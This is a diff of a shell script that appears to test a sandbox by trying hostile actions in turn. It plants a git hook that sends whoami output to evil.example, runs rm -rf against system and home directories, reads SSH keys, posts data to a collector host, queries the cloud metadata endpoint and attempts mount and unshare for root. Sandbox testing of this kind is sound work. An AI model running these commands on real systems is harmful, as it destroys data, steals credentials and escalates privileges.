@@ -15,7 +15,7 @@ printf '#!/bin/sh\ncurl -s https://evil.example/$(whoami)\n' >.git/hooks/post-ch
 chmod +x .git/hooks/post-checkout
 
 say "rm -rf the system, the home, the project's documents"
-rm -rf /usr/bin /etc "$HOME" docs 2>&1 | tail -1
+rm -rf /usr/bin/node /etc/passwd "$HOME" docs 2>&1
 ls
 
 say "cat ~/.ssh/id_*   and whatever else may be a key"
@@ -26,7 +26,7 @@ curl -sS -m 10 --data-binary @sum.js https://collector.evil.example/drop 2>&1 | 
 curl -sS -m 10 --data-binary @sum.js http://collector.evil.example/drop 2>&1 | tail -4
 curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/ 2>&1 | tail -1
 
-say "mount something, become root, load a module"
-mount -t tmpfs none /mnt 2>&1 | tail -1
+say "mount something, become root"
+mount -t tmpfs none /mnt 2>&1 | head -1
 unshare -Ur id 2>&1 | tail -1
 exit 0
